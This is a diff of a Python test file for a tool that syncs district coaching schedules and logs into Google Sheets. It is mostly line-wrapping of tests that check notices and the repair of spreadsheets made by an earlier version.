+        "who@else.example", "NOR-1", kind="one-on-one", day="2026-11-18", minutes=30
+    )
     assert len(busy.run()[0].standings[0].outcomes) == 4
     path = busy.folder / "districts.csv"
     second = "NOR,Northfield,,2026-08-31,2027-06-18,monthly,\n"
@@ -580,17 +871,34 @@ def test_an_answer_follows_its_district(busy: Program) -> None:
 
 def test_a_coordinator_who_was_taken_off_the_list_is_named(program: Program) -> None:
     path = program.folder / "districts.csv"
-    path.write_text(path.read_text(encoding="utf-8").replace("coordinator@westbrook.example", ""), encoding="utf-8")
-    assert "is also open to coordinator@westbrook.example" in program.provision()[0].of(Deed.NOTICE)[0]
+    path.write_text(
+        path.read_text(encoding="utf-8").replace("coordinator@westbrook.example", ""),
+        encoding="utf-8",
+    )
+    assert (
+        "is also open to coordinator@westbrook.example"
+        in program.provision()[0].of(Deed.NOTICE)[0]
+    )
 
 
 def test_a_program_of_an_earlier_version_is_mended_by_provision(busy: Program) -> None:
-    """Without the columns and tabs that came later: a run asks for `provision`, which adds them; nothing is lost or doubled."""
-    busy.log("ana@westbrook.example", "WES-1", kind="one-on-one", day="2026-11-18", minutes=30)
+    """Without the columns and tabs that came later: a run asks for `provision`, which
+    adds them; nothing is lost or doubled.
+    """
+    busy.log(
+        "ana@westbrook.example",
+        "WES-1",
+        kind="one-on-one",
+        day="2026-11-18",
+        minutes=30,
+    )
     busy.run()
     before = {tab: busy.values(tab) for tab in ("status", "log", "pairs", "schedule")}
     layout, requests = busy.layout, list[dict[str, Any]]()
-    for tab, keys in (("status", ["plan"]), ("pairs", ["hours_before", "meets", "plan_link"])):
+    for tab, keys in (
+        ("status", ["plan"]),
+        ("pairs", ["hours_before", "meets", "plan_link"]),
+    ):
         for place in (layout.tab(tab).place(key) for key in keys):
             columns = {
                 "sheetId": layout.tab(tab).id,
@@ -600,36 +908,78 @@ def test_a_program_of_an_earlier_version_is_mended_by_provision(busy: Program) -
             }
             requests.append({"deleteDimension": {"range": columns}})
     schedule = layout.tab("schedule")
-    start = {"sheetId": schedule.id, "rowIndex": 2, "columnIndex": len(schedule.columns)}
+    start = {
+        "sheetId": schedule.id,
+        "rowIndex": 2,
+        "columnIndex": len(schedule.columns),
+    }
     old: dict[str, Any] = {
         "rows": [{"values": [{"userEnteredValue": {"formulaValue": "=1+1"}}]}],
         "fields": "userEnteredValue",
     }
-    requests += [{"deleteSheet": {"sheetId": layout.tab("annual").id}}, {"updateCells": {"start": start, **old}}]
-    pairs = layout.tab("pairs")
-    number = {"sheetId": pairs.id, "startRowIndex": 1, "endRowIndex": 5, "startColumnIndex": 0, "endColumnIndex": 1}
-    pattern = {"userEnteredFormat": {"numberFormat": {"type": "NUMBER", "pattern": "0.##"}}}
-    follow_up = {"sheetId": 107, "startRowIndex": 1, "endRowIndex": 9, "startColumnIndex": 2, "endColumnIndex": 3}
-    protected = {"protectedRangeId": 10703, "range": follow_up, "editors": {"users": [ADMIN]}}
     requests += [
-        {"repeatCell": {"range": number, "cell": pattern, "fields": "userEnteredFormat.numberFormat"}},
+        {"deleteSheet": {"sheetId": layout.tab("annual").id}},
+        {"updateCells": {"start": start, **old}},
+    ]
+    pairs = layout.tab("pairs")
+    number = {
+        "sheetId": pairs.id,
+        "startRowIndex": 1,
+        "endRowIndex": 5,
+        "startColumnIndex": 0,
+        "endColumnIndex": 1,
+    }
+    pattern = {
+        "userEnteredFormat": {"numberFormat": {"type": "NUMBER", "pattern": "0.##"}}
+    }
+    follow_up = {
+        "sheetId": 107,
+        "startRowIndex": 1,
+        "endRowIndex": 9,
+        "startColumnIndex": 2,
+        "endColumnIndex": 3,
+    }
+    protected = {
+        "protectedRangeId": 10703,
+        "range": follow_up,
+        "editors": {"users": [ADMIN]},
+    }
+    requests += [
+        {
+            "repeatCell": {
+                "range": number,
+                "cell": pattern,
+                "fields": "userEnteredFormat.numberFormat",
+            }
+        },
         {"addProtectedRange": {"protectedRange": protected}},
         *({"deleteFilterView": {"filterId": 10301 + n}} for n in range(3)),
     ]
     busy.edit(*requests, who=ADMIN)
     path = busy.settings.lock_path
-    path.write_text(re.sub(r"edition = \d+\n", "", path.read_text(encoding="utf-8")), encoding="utf-8")
+    path.write_text(
+        re.sub(r"edition = \d+\n", "", path.read_text(encoding="utf-8")),
+        encoding="utf-8",
+    )
     with pytest.raises(
-        ConfigurationError, match=r"made by an earlier version of this program\. Run `sync provision` once"
+        ConfigurationError,
+        match=r"made by an earlier version of this program\. Run `sync provision` once",
     ):
         busy.run()
     mended = busy.provision()[0].of(Deed.MEND)
     assert "Westbrook: the column Their plan of Status" in mended
-    assert "Westbrook: the rows of Follow-up are people's to insert, delete, move and sort" in mended
+    assert (
+        "Westbrook: the rows of Follow-up are people's to insert, delete, move and sort"
+        in mended
+    )
     assert "Westbrook: filter views of Pairs" in mended
     assert "Westbrook: how numbers look" in mended
     assert busy.provision()[0].of(Deed.MEND) == []
-    shown = busy.google().sheets.look(busy.lock.sheets["WES"].id, {"pairs": pairs.id}, "FORMATTED_VALUE").grids["pairs"]
+    shown = (
+        busy.google()
+        .sheets.look(busy.lock.sheets["WES"].id, {"pairs": pairs.id}, "FORMATTED_VALUE")
+        .grids["pairs"]
+    )
     assert [row[0] for row in shown[1:4]] == ["1", "2", "3"]
     result, _ = busy.run()
     assert (result.changed, result.failed) == (set(), {})
